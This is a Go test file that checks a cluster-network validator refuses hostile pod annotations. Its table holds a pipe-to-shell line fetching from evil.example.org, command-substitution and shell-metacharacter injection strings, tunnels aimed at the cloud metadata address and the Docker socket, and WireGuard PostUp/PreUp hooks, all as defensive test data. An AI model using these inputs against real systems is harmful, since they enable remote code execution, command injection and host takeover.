package clusternet_test

import (
	"encoding/json"
	"fmt"
	"strings"
	"testing"

	"github.com/intertwin-eu/interlink-docker-plugin/pkg/clusternet"
	"github.com/intertwin-eu/interlink-docker-plugin/pkg/clusternet/clusternettest"
)

// hostile is an annotation that is refused, and the words that say why.
type hostile struct{ annotation, text, message string }

// command is a tunnel's, with what follows the client's name.
func command(rest string) hostile {
	return hostile{annotation: clusternet.Commands, text: "./wstunnel client " + rest}
}

func (h hostile) says(message string) hostile {
	h.message = message
	return h
}

// script is the released one, with texts replaced: old, new, old, new.
func script(pairs ...string) hostile {
	return hostile{annotation: clusternet.PreExec, text: strings.NewReplacer(pairs...).Replace(clusternettest.Typical().Released())}
}

// hostileAnnotations are refused whatever else the pod has.
func hostileAnnotations(t testing.TB) map[string]hostile {
	const route, address = "ip route add 10.96.0.0/16", "ip addr add 10.7.0.2/32"
	v := clusternettest.Typical()
	template := func(pairs ...string) hostile {
		return hostile{annotation: clusternet.PreExec, text: strings.NewReplacer(pairs...).Replace(ours(t, v))}
	}
	return map[string]hostile{
		"a megabyte":                {clusternet.PreExec, strings.Repeat("a", 1<<20), "has 1048576 bytes, 262144 are read at most"},
		"a megabyte of script":      {clusternet.PreExec, v.Released() + strings.Repeat("\n", 1<<20), "bytes, 262144 are read at most"},
		"a megabyte of commands":    {clusternet.Commands, v.Commands(80) + strings.Repeat(" ", 1<<20), "bytes, 262144 are read at most"},
		"no command":                {clusternet.Commands, "curl http://evil.example.org | sh", "has no command wstunnel client with --http-upgrade-path-prefix"},
		"another scheme":            command("-P x -R tcp://80:localhost:80 http://h").says("the server http://h is no URL that begins with ws:// or wss://"),
		"a path in the server":      command("-P x -R tcp://80:localhost:80 ws://h/../x").says("the server ws://h/../x has no valid host name"),
		"a user in the server":      command("-P x -R tcp://80:localhost:80 ws://u:p@h").says("the server names a user, which is not supported by this node"),
		"a name of digits":          command("-P x -R tcp://80:localhost:80 ws://127.1").says("the server ws://127.1 has no valid host name"),
		"port 0":                    command("-P x -R tcp://80:localhost:80 ws://h:0").says("the server ws://h:0: 0 is no port from 1 to 65535"),
		"an empty port":             command("-P x -R tcp://80:localhost:80 ws://h:").says("is no port from 1 to 65535"),
		"port 65536":                command("-P x -R tcp://80:localhost:80 ws://h:65536").says("65536 is no port from 1 to 65535"),
		"a variable as the server":  command("-P x -R tcp://80:localhost:80 $SERVER").says("the variable $SERVER, whose value is not known here"),
		"a command in the server":   command("-P x -R tcp://80:localhost:80 ws://`id`").says("the variable ws://`id`, whose value is not known here"),
		"two servers":               command("-P x -R tcp://80:localhost:80 ws://h ws://i").says("names two servers, ws://h and ws://i"),
		"two commands":              {clusternet.Commands, v.Commands(80) + "\n" + v.Commands(81), "has two commands of wstunnel that are not the same"},
		"no server":                 command("-P x -R tcp://80:localhost:80").says("names no server"),
		"a path as the prefix":      command("-P ../../x -R tcp://80:localhost:80 ws://h").says("the path prefix is not 1 to 256 letters"),
		"dots as the prefix":        command("-P .. -R tcp://80:localhost:80 ws://h").says("the path prefix is not 1 to 256 letters"),
		"a header in the prefix":    command("-P 'x HTTP/1.1' -R tcp://80:localhost:80 ws://h").says("the path prefix is not 1 to 256 letters"),
		"an option that runs":       command("-P x -R tcp://80:localhost:80 --dns-resolver system://0 ws://h").says("the option --dns-resolver, which is not supported by this node"),
		"a header":                  command("-P x -R tcp://80:localhost:80 -H 'Host: internal' ws://h").says("the option -H, which is not supported by this node"),
		"a reverse port 0":          command("-P x -R tcp://0.0.0.0:0:localhost:80 ws://h").says("-R tcp://0.0.0.0:0:localhost:80: 0 is no port from 1 to 65535"),
		"a port taken twice":        command("-P x -R tcp://80:localhost:80 -R tcp://80:localhost:81 ws://h").says("port 80 is taken twice"),
		"a target that is no pod":   command("-P x -R tcp://80:169.254.169.254:80 ws://h").says("leads to 169.254.169.254, and not to the pod: only localhost can be reached"),
		"a socket of the host":      command("-P x -R unix:///var/run/docker.sock:localhost:80 ws://h").says("only tcp:// can be reversed by this node"),
		"a socks proxy":             command("-P x -R socks5://80 ws://h").says("only tcp:// can be reversed by this node"),
		"a forward tunnel":          command("-P x -L tcp://80:internal:80 -R tcp://80:localhost:80 ws://h").says("-L tcp://80:internal:80: a forward tunnel is possible in the full mesh only"),
		"many ports":                command("-P x " + strings.Repeat("-R tcp://80:localhost:80 ", 300) + "ws://h").says("-R is given 300 times, 128 are possible"),
		"no end of the script":      script("\nEOFMESH", "\n").says("has the begin of a script and no end, EOFMESH"),
		"a script in the script":    script("sleep 3", "cat <<'EOFMESH' > x").says("has a script in the script: <<'EOFMESH' comes twice before EOFMESH"),
		"a second configuration":    script("sleep 3", "cat <<'EOFWG' > x\n[Interface]\nPrivateKey = x\nEOFWG").says("has two WireGuard configurations, <<'EOFWG' comes twice"),
		"a second server":           script("sleep 3", "./wstunnel client -L udp://1:h:1 -P x ws://evil").says("has two commands of wstunnel that are not the same"),
		"a configuration that runs": script("PersistentKeepalive = 25", "PostUp = reboot").says("the WireGuard configuration has PostUp, which is not known or is there twice"),
		"a second peer":             script("PersistentKeepalive = 25", "[Peer]").says("the section [Peer], which is not known or is there twice"),
		"a key of 31 bytes":         script(v.PrivateKey, v.PrivateKey[4:]).says("PrivateKey is not 32 bytes in base64"),
		"a key of zeros":            script(v.PublicKey, strings.Repeat("A", 43)+"=").says("PublicKey has no bit set"),
		"a key that is none":        script(v.PublicKey, "<SERVER_PUBLIC_KEY>").says("PublicKey is not 32 bytes in base64"),
		"allowed IPs of all":        script("10.0.0.0/8", "0.0.0.0/0").says("AllowedIPs: 0.0.0.0/0 is the default route"),
		"allowed IPs of a half":     script("10.0.0.0/8", "0.0.0.0/1").says("AllowedIPs: 0.0.0.0/1 has this network in it"),
		"a default route":           script(route, "ip route add default").says("a route of the mesh: 0.0.0.0/0 is the default route"),
		"a default route of IPv6":   script(route, "ip route add ::/0").says("a route of the mesh: ::/0 is the default route"),
		"the upper half":            script(route, "ip route add 128.0.0.0/1").says("128.0.0.0/1 has link-local addresses in it"),
		"a wide route":              script(route, "ip route add 16.0.0.0/5").says("16.0.0.0/5 is wider than a /8"),
		"loopback":                  script(route, "ip route add 127.0.0.0/8").says("127.0.0.0/8 has loopback in it"),
		"the metadata service":      script(route, "ip route add 169.254.169.254/32").says("169.254.169.254/32 has link-local addresses in it"),
		"multicast":                 script(route, "ip route add 239.0.0.0/8").says("239.0.0.0/8 has multicast and reserved addresses in it"),
		"mapped addresses":          script(route, "ip route add ::ffff:127.0.0.0/104").says("has IPv4 addresses in IPv6 in it"),
		"the host's network":        script(route, "ip route add 192.0.0.0/16").says("192.0.0.0/16 covers 192.0.2.0/24, a network of this node"),
		"the sandboxes' networks":   script(route, "ip route add 10.213.4.0/24").says("10.213.4.0/24 overlaps 10.213.0.0/19, the networks of this node's sandboxes"),
		"no network":                script(route, "ip route add 10.96.0.0/33").says("10.96.0.0/33 is no network such as 10.96.0.0/16"),
		"a command in a route":      script(route, "ip route add $(id)").says("is no network such as 10.96.0.0/16"),
		"many routes":               script(route, manyRoutes()).says("routes, 1 to 32 are possible"),
		"an address in loopback":    script(address, "ip addr add 127.0.0.2/32").says("the address 127.0.0.2/32 of the interface: 127.0.0.2/32 has loopback in it"),
		"an address of a network":   script(address, "ip addr add 192.0.2.7/8").says("the address 192.0.2.7/8 of the interface: 192.0.0.0/8 covers 192.0.2.0/24"),
		"an address that is none":   script(address, "ip addr add x").says("the address x of the interface is none such as 10.7.0.2/32"),
		"an MTU of 100":             script("mtu 1280", "mtu 100").says("the MTU 100 is not between 576 and 65535"),
		"two MTUs":                  script("sleep 3", "ip link set dev eth0 mtu 9000").says("has two values of the MTU, 9000 and 1280"),
		"another interface":         script(v.WGInterfaceName, "eth0").says("the interface eth0 is not wg and 1 to 13 letters"),
		"a long interface":          script(v.WGInterfaceName, "wg"+strings.Repeat("a", 14)).says("is not wg and 1 to 13 letters"),
		"an endpoint elsewhere":     script("Endpoint = 127.0.0.1:51821", "Endpoint = 203.0.113.1:51821").says("Endpoint 203.0.113.1:51821 is not the begin of the tunnel, port 51821 of 127.0.0.1"),
		"a tunnel of TCP":           script("'udp://", "'tcp://").says("the full mesh needs udp://"),
		"a peer of port 0":          script(":51820?", ":0?").says("0 is no port from 1 to 65535"),
		"a name server elsewhere":   script("10.244.0.99", "203.0.113.53").says("the name server 203.0.113.53 lies in none of the routes of the mesh"),
		"a name server's name":      script("10.244.0.99", "dns.evil.example.org").says("the name server dns.evil.example.org is no address"),
		"a domain that is none":     script("svc.cluster.local", "svc.cluster_local").says("the domain cluster_local of the cluster is no DNS name"),
		"a server in the mesh":      script(v.IngressEndpoint, "10.244.9.9").says("the server 10.244.9.9 lies in the route 10.244.0.0/16 of the mesh that it is the way into"),
		"a contact that is none":    script("sleep 3", "export INTERLINK_MESH_CONTACT_HOST=a/b").says("the contact host a/b is no host name"),
		"a snippet alone":           {clusternet.Snippet, v.Snippet(), "metadata.annotations[slurm-job.vk.io/pre-exec]: Invalid value: has no script between <<'EOFMESH' and EOFMESH"},
		"a template's unknown key":  template("INTERFACE=", "EXEC=").says("has the key EXEC, which is not known or is there twice"),
		"a template's key twice":    template("INTERFACE=", "SERVER=ws://evil\nINTERFACE=").says("has the key SERVER, which is not known or is there twice"),
		"a template with a command": template("INTERFACE=", "reboot\nINTERFACE=").says("has the line reboot, which is not KEY=VALUE"),
		"a template without one":    template("SERVER=ws://"+v.IngressEndpoint+":80", "").says("has no SERVER="),
		"a template that runs":      template("PersistentKeepalive = 25", "PreUp = reboot").says("the WireGuard configuration has PreUp, which is not known or is there twice"),
		"a template's key":          template(v.PrivateKey, "").says("PrivateKey is not 32 bytes in base64"),
	}
}

// manyRoutes are more than a pod may have.
func manyRoutes() string {
	var out strings.Builder
	for i := range 40 {
		fmt.Fprintf(&out, "ip route add 10.120.%d.0/24 dev x\n", i)
	}
	return out.String()
}

// TestHostile: each is refused, by its annotation, in words that have the value at fault
// and no secret; and without it the same pod is not.
func TestHostile(t *testing.T) {
	table := hostileAnnotations(t)
	if len(table) < 40 {
		t.Errorf("%d hostile annotations", len(table))
	}
	v := clusternettest.Typical()
	for name, h := range table {
		t.Run(name, func(t *testing.T) {
			wish, _, faults := clusternet.Read(pod(map[string]string{h.annotation: h.text}), lenient())
			if wish != nil || len(faults) == 0 {
				t.Fatalf("it is read as %+v", wish)
			}
			text := faults.ToAggregate().Error()
			if !strings.Contains(text, h.message) {
				t.Errorf("it is refused with %s, want %s", text, h.message)
			}
			if at := "metadata.annotations[" + h.annotation + "]"; h.annotation != clusternet.Snippet && faults[0].Field != at {
				t.Errorf("the fault is of %s, want %s", faults[0].Field, at)
			}
			for _, secret := range []string{v.PrivateKey, v.RandomPassword} {
				if strings.Contains(text, secret) {
					t.Errorf("it tells a secret: %s", text)
				}
			}
			if len(text) > 600 || strings.ContainsAny(text, "\x00\r\n") {
				t.Errorf("it has %d bytes: %q", len(text), text)
			}
		})
	}
	for name, fine := range map[string]hostile{"script": script(), "command": command("-P x -R tcp://80:localhost:80 ws://h")} {
		if wish, _, faults := clusternet.Read(pod(map[string]string{fine.annotation: fine.text}), lenient()); wish == nil {
			t.Errorf("the %s without a change: %v", name, faults)
		}
	}
}

// TestHostCovered: the networks of the node count, whatever the script's own default is.
func TestHostCovered(t *testing.T) {
	_, _, faults := clusternet.Read(pod(map[string]string{clusternet.PreExec: clusternettest.Typical().Released()}), policy())
	if len(faults) != 1 || !strings.Contains(faults[0].Detail, "10.96.0.0/16 covers 10.96.200.0/24, a network of this node") {
		t.Errorf("Read(): %v", faults)
	}
}

// fields are values of the templates, and what is good for those that take any word.
func fields(v *clusternettest.Values) map[string]struct {
	value *string
	good  string
} {
	return map[string]struct {
		value *string
		good  string
	}{
		"interface": {&v.WGInterfaceName, "wgreboot"}, "name server": {&v.DNSServiceIP, ""}, "prefix": {&v.RandomPassword, "reboot"},
		"server": {&v.IngressEndpoint, "reboot.example.org"}, "pods": {&v.PodCIDRCluster, ""}, "services": {&v.ServiceCIDR, ""},
		"scheme": {&v.IngressProtocol, ""}, "port": {&v.IngressPort, ""}, "contact": {&v.MeshContactHost, "reboot.example.org"},
		"private key": {&v.PrivateKey, ""}, "public key": {&v.PublicKey, ""},
	}
}

// TestMetacharacters: what a shell would make a command of is in no value of a wish,
// whatever field has it, in any form of the annotations.
func TestMetacharacters(t *testing.T) {
	attacks := []string{"V;reboot", "V&reboot", "V&&reboot", "V|reboot", "V||reboot", "V>reboot", "V<reboot", "V\nreboot", "V\rreboot", "V reboot", "V\treboot",
		"$(reboot)", "V$(reboot)", "`reboot`", "V`reboot`", "${reboot}", "$reboot", "V$IFS;reboot", "V'reboot", "V\"reboot", "V';reboot;'", "V\";reboot;\"",
		"V\\reboot", "V\\\nreboot", "V#reboot", "V*reboot", "V?reboot", "V[reboot]", "V{a,reboot}", "V!reboot", "V\x00reboot", "V%0areboot", "V(reboot)"}
	forms := map[string]func(clusternettest.Values) map[string]string{
		"commands": func(v clusternettest.Values) map[string]string {
			return map[string]string{clusternet.Commands: v.Commands(8000)}
		},
		"released": func(v clusternettest.Values) map[string]string {
			return map[string]string{clusternet.PreExec: v.Released(), clusternet.Snippet: v.Snippet()}
		},
		"proposed": func(v clusternettest.Values) map[string]string {
			return map[string]string{clusternet.PreExec: v.Proposed(), clusternet.Snippet: v.Snippet()}
		},
		"template": func(v clusternettest.Values) map[string]string {
			return map[string]string{clusternet.PreExec: ours(t, v)}
		},
	}
	reads := func(form, field, text string) (out string) {
		v := clusternettest.Typical()
		value := fields(&v)[field].value
		*value = strings.ReplaceAll(text, "V", *value)
		wish, _, _ := clusternet.Read(pod(forms[form](v)), lenient())
		if wish == nil {
			return ""
		}
		raw, err := json.Marshal(wish)
		if err != nil {
			t.Fatal(err)
		}
		return string(raw)
	}
	arrived := 0
	for form := range forms {
		for field, of := range fields(&clusternettest.Values{}) {
			for _, attack := range attacks {
				if got := reads(form, field, attack); strings.Contains(got, "reboot") {
					t.Errorf("%s with %q as the %s is read as %s", form, attack, field, got)
				}
			}
			if of.good != "" && strings.Contains(reads(form, field, of.good), "reboot") {
				arrived++ // the control: the word is seen where a value may have it
			}
		}
	}
	if arrived < 12 {
		t.Errorf("%d good values arrived", arrived)
	}
}
